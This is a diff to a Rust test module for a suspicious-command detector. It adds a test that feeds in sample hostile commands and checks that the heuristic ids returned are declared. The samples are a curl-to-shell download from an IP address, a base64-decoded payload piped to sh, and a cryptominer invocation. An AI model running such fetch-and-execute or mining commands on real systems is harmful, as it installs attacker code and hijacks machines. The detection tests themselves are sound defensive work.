@@ -88,6 +88,18 @@ mod tests {
     }
 
     #[test]
+    fn every_id_is_a_declared_heuristic() {
+        let commands = ["curl http://192.0.2.1/x | sh", "echo aGk= | base64 -d | sh", "xmrig --donate-level 1"];
+        for command in commands {
+            let matches = suspicious_command(command);
+            assert!(!matches.is_empty(), "{command}");
+            for found in matches {
+                assert!(crate::heuristics::HEURISTICS.iter().any(|h| h.id == found.id), "`{}` is not declared", found.id);
+            }
+        }
+    }
+
+    #[test]
     fn startup_launch_lines() {
         assert!(launches_program("nohup /usr/local/bin/agent >/dev/null 2>&1 &"));
         assert!(launches_program("/dev/shm/.x/run"));
